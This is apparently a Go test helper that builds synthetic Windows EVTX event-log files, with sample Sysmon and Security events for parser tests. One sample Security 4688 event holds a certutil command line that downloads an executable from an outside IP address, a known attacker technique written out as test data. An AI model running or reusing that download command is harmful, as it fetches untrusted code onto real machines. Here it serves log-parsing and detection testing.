package evtx

import (
	"encoding/binary"
	"hash/crc32"
	"strings"
	"time"
	"unicode/utf16"
)

// A small EVTX writer for the tests: it writes what the Windows event log writes (a file
// header, 64 KiB chunks, records whose BinXml is an instance of a template defined inline on its
// first use in the chunk), so that the tests need no real file.

// field is one EventData value: its name, BinXml type and raw little-endian bytes.
type field struct {
	name string
	typ  uint8
	raw  []byte
}

// ev is one event to write.
type ev struct {
	provider, channel, computer string
	eid                         uint16
	recID                       uint64
	time                        time.Time
	data                        []field
}

func str(name, v string) field { return field{name, tString, utf16Bytes(v)} }
func u16f(name string, v uint16) field {
	return field{name, tUint16, binary.LittleEndian.AppendUint16(nil, v)}
}
func u32f(name string, v uint32) field {
	return field{name, tUint32, binary.LittleEndian.AppendUint32(nil, v)}
}
func hex64f(name string, v uint64) field {
	return field{name, tHex64, binary.LittleEndian.AppendUint64(nil, v)}
}
func boolf(name string, v bool) field {
	b := uint32(0)
	if v {
		b = 1
	}
	return field{name, tBool, binary.LittleEndian.AppendUint32(nil, b)}
}
func guidf(name string, d uint32, w1, w2 uint16, rest [8]byte) field {
	b := binary.LittleEndian.AppendUint32(nil, d)
	b = binary.LittleEndian.AppendUint16(b, w1)
	b = binary.LittleEndian.AppendUint16(b, w2)
	return field{name, tGUID, append(b, rest[:]...)}
}

func toFileTime(t time.Time) uint64 {
	return uint64(t.UnixNano()/100) + fileTimeEpoch
}

// bx writes BinXml into a chunk buffer (positions are chunk offsets).
type bx struct{ b []byte }

func (w *bx) u8(v uint8)   { w.b = append(w.b, v) }
func (w *bx) u16(v uint16) { w.b = binary.LittleEndian.AppendUint16(w.b, v) }
func (w *bx) u32(v uint32) { w.b = binary.LittleEndian.AppendUint32(w.b, v) }

// name writes a name defined in place.
func (w *bx) name(s string) {
	w.u32(uint32(len(w.b) + 4))
	w.u32(0) // next string
	w.u16(0) // hash
	u := utf16.Encode([]rune(s))
	w.u16(uint16(len(u)))
	for _, c := range u {
		w.u16(c)
	}
	w.u16(0)
}

func (w *bx) open(name string, attrs bool) {
	if attrs {
		w.u8(0x41)
	} else {
		w.u8(0x01)
	}
	w.u16(0xffff) // dependency id
	w.u32(0)      // data size (no reader needs it)
	w.name(name)
	if attrs {
		w.u32(0) // attribute list size
	}
}

func (w *bx) attr(name string, more bool) {
	if more {
		w.u8(0x46)
	} else {
		w.u8(0x06)
	}
	w.name(name)
}

func (w *bx) text(s string) {
	w.u8(0x05)
	w.u8(0x01)
	u := utf16.Encode([]rune(s))
	w.u16(uint16(len(u)))
	for _, c := range u {
		w.u16(c)
	}
}

func (w *bx) subst(id uint16, typ uint8) {
	w.u8(0x0e)
	w.u16(id)
	w.u8(typ)
}

// template writes the body of the template of an event's shape: System with substitutions 0
// EventID, 1 TimeCreated, 2 EventRecordID, 3 Channel, 4 Computer, then EventData's Data 5...
func (w *bx) template(e ev) {
	w.b = append(w.b, 0x0f, 0x01, 0x01, 0x00)
	w.open("Event", true)
	w.attr("xmlns", false)
	w.text("http://schemas.microsoft.com/win/2004/08/events/event")
	w.u8(0x02)
	w.open("System", false)
	w.u8(0x02)
	w.open("Provider", true)
	w.attr("Name", false)
	w.text(e.provider)
	w.u8(0x03)
	w.open("EventID", false)
	w.u8(0x02)
	w.subst(0, tUint16)
	w.u8(0x04)
	w.open("TimeCreated", true)
	w.attr("SystemTime", false)
	w.subst(1, tFileTime)
	w.u8(0x03)
	w.open("EventRecordID", false)
	w.u8(0x02)
	w.subst(2, tUint64)
	w.u8(0x04)
	w.open("Channel", false)
	w.u8(0x02)
	w.subst(3, tString)
	w.u8(0x04)
	w.open("Computer", false)
	w.u8(0x02)
	w.subst(4, tString)
	w.u8(0x04)
	w.u8(0x04) // </System>
	w.open("EventData", false)
	w.u8(0x02)
	for i, f := range e.data {
		w.open("Data", true)
		w.attr("Name", false)
		w.text(f.name)
		w.u8(0x02)
		w.subst(uint16(5+i), f.typ)
		w.u8(0x04)
	}
	w.u8(0x04) // </EventData>
	w.u8(0x04) // </Event>
	w.u8(0x00)
}

func shapeKey(e ev) string {
	var s strings.Builder
	s.WriteString(e.provider)
	for _, f := range e.data {
		s.WriteString("|" + f.name + ":" + string(rune(f.typ)))
	}
	return s.String()
}

// chunkBytes writes a chunk of events; number is the first record's number.
func chunkBytes(events []ev, number uint64) []byte {
	w := &bx{b: make([]byte, chunkHeaderSize, chunkSize)}
	type tmpl struct{ id, def uint32 }
	templates := map[string]tmpl{}
	lastRec := 0
	for i, e := range events {
		start := len(w.b)
		lastRec = start
		w.b = append(w.b, recordMagic...)
		w.u32(0) // size, below
		w.b = binary.LittleEndian.AppendUint64(w.b, number+uint64(i))
		w.b = binary.LittleEndian.AppendUint64(w.b, toFileTime(e.time))
		w.b = append(w.b, 0x0f, 0x01, 0x01, 0x00)
		w.u8(0x0c)
		w.u8(0x01)
		key := shapeKey(e)
		t, seen := templates[key]
		if !seen {
			t = tmpl{id: uint32(0x1000 + len(templates)), def: uint32(len(w.b) + 8)}
			templates[key] = t
		}
		w.u32(t.id)
		w.u32(t.def)
		if !seen {
			w.u32(0) // next template
			w.u32(t.id)
			w.b = append(w.b, make([]byte, 12)...) // rest of the GUID
			sizeAt := len(w.b)
			w.u32(0)
			w.template(e)
			binary.LittleEndian.PutUint32(w.b[sizeAt:], uint32(len(w.b)-sizeAt-4))
		}
		vals := [][]byte{
			binary.LittleEndian.AppendUint16(nil, e.eid),
			binary.LittleEndian.AppendUint64(nil, toFileTime(e.time)),
			binary.LittleEndian.AppendUint64(nil, e.recID),
			utf16Bytes(e.channel),
			utf16Bytes(e.computer),
		}
		types := []uint8{tUint16, tFileTime, tUint64, tString, tString}
		for _, f := range e.data {
			vals = append(vals, f.raw)
			types = append(types, f.typ)
		}
		w.u32(uint32(len(vals)))
		for k, v := range vals {
			w.u16(uint16(len(v)))
			w.u8(types[k])
			w.u8(0)
		}
		for _, v := range vals {
			w.b = append(w.b, v...)
		}
		w.u8(0x00)
		size := len(w.b) - start + 4
		w.u32(uint32(size))
		binary.LittleEndian.PutUint32(w.b[start+4:], uint32(size))
		if len(w.b) > chunkSize {
			panic("too many events for a chunk")
		}
	}
	free := len(w.b)
	b := w.b[:chunkSize]
	clear(b[free:])
	le := binary.LittleEndian
	copy(b, chunkMagic)
	le.PutUint64(b[8:], number)
	le.PutUint64(b[16:], number+uint64(len(events))-1)
	le.PutUint64(b[24:], number)
	le.PutUint64(b[32:], number+uint64(len(events))-1)
	le.PutUint32(b[40:], 128)
	le.PutUint32(b[44:], uint32(lastRec))
	le.PutUint32(b[48:], uint32(free))
	le.PutUint32(b[52:], crc32.ChecksumIEEE(b[chunkHeaderSize:free]))
	fixChunkChecksum(b)
	return b
}

func fixChunkChecksum(b []byte) {
	binary.LittleEndian.PutUint32(b[124:], crc32.Update(crc32.ChecksumIEEE(b[:120]), crc32.IEEETable, b[128:chunkHeaderSize]))
}

// buildEVTX writes a file of the given chunks of events.
func buildEVTX(chunks ...[]ev) []byte {
	b := make([]byte, headerBlockSize)
	le := binary.LittleEndian
	copy(b, fileMagic)
	n := uint64(1)
	for _, c := range chunks {
		b = append(b, chunkBytes(c, n)...)
		n += uint64(len(c))
	}
	le.PutUint64(b[16:], uint64(len(chunks)-1))
	le.PutUint64(b[24:], n)
	le.PutUint32(b[32:], 128)
	le.PutUint16(b[36:], 1)
	le.PutUint16(b[38:], 3)
	le.PutUint16(b[40:], headerBlockSize)
	le.PutUint16(b[42:], uint16(len(chunks)))
	le.PutUint32(b[124:], crc32.ChecksumIEEE(b[:120]))
	return b
}

// Sample events.

var t0 = time.Date(2024, 3, 1, 12, 0, 0, 123456700, time.UTC)

const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

func sysmonConnect(rec uint64, image string, dst string, port uint16) ev {
	return ev{provider: "Microsoft-Windows-Sysmon", channel: sysmonChannel, computer: "ws1.corp.example", eid: 3, recID: rec,
		time: t0.Add(time.Duration(rec) * time.Second),
		data: []field{
			str("RuleName", "-"), str("UtcTime", t0.Add(time.Duration(rec)*time.Second).Format("2006-01-02 15:04:05.000")),
			guidf("ProcessGuid", 0x5ab40fd1, 0x3db3, 0x68f9, [8]byte{0x0a, 0x31, 0, 0, 0, 0, 0x3b, 0x02}),
			u32f("ProcessId", 5312), str("Image", image), str("User", `CORP\alice`), str("Protocol", "tcp"),
			boolf("Initiated", true), boolf("SourceIsIpv6", false), str("SourceIp", "10.0.2.15"), str("SourceHostname", "-"),
			u16f("SourcePort", 49812), str("SourcePortName", "-"), boolf("DestinationIsIpv6", false), str("DestinationIp", dst),
			str("DestinationHostname", "-"), u16f("DestinationPort", port), str("DestinationPortName", "http"),
		}}
}

func sysmonProcess(rec uint64, image, cmd string) ev {
	return ev{provider: "Microsoft-Windows-Sysmon", channel: sysmonChannel, computer: "ws1.corp.example", eid: 1, recID: rec,
		time: t0.Add(time.Duration(rec) * time.Second),
		data: []field{
			str("RuleName", "-"), str("UtcTime", t0.Add(time.Duration(rec)*time.Second).Format("2006-01-02 15:04:05.000")),
			guidf("ProcessGuid", 0x5ab40fd1, 0x3db3, 0x68f9, [8]byte{0x0a, 0x31, 0, 0, 0, 0, 0x3b, 0x02}),
			u32f("ProcessId", 5312), str("Image", image), str("CommandLine", cmd), str("CurrentDirectory", `C:\Users\alice\`),
			str("User", `CORP\alice`), hex64f("LogonId", 0x3144c), u32f("TerminalSessionId", 1),
			str("Hashes", "SHA256=00"), u32f("ParentProcessId", 476), str("ParentImage", `C:\Windows\System32\cmd.exe`),
			str("ParentCommandLine", `"C:\Windows\system32\cmd.exe"`),
		}}
}

func otherEvent(rec uint64) ev {
	return ev{provider: "Microsoft-Windows-Sysmon", channel: sysmonChannel, computer: "ws1.corp.example", eid: 5, recID: rec,
		time: t0.Add(time.Duration(rec) * time.Second),
		data: []field{str("RuleName", "-"), u32f("ProcessId", 5312), str("Image", `C:\x.exe`)}}
}

func security4688(rec uint64) ev {
	return ev{provider: "Microsoft-Windows-Security-Auditing", channel: "Security", computer: "dc1.corp.example", eid: 4688, recID: rec,
		time: t0.Add(time.Duration(rec) * time.Second),
		data: []field{
			field{"SubjectUserSid", tSID, []byte{1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0}},
			str("SubjectUserName", "DC1$"), str("SubjectDomainName", "CORP"), hex64f("SubjectLogonId", 0x3e7),
			hex64f("NewProcessId", 0x147c), str("NewProcessName", `C:\Windows\System32\certutil.exe`),
			str("TokenElevationType", "%%1936"), hex64f("ProcessId", 0x2b8),
			str("CommandLine", `certutil -urlcache -split -f http://203.0.113.9/a.exe`),
			str("TargetUserName", "bob"), str("TargetDomainName", "CORP"), str("ParentProcessName", `C:\Windows\System32\cmd.exe`),
		}}
}
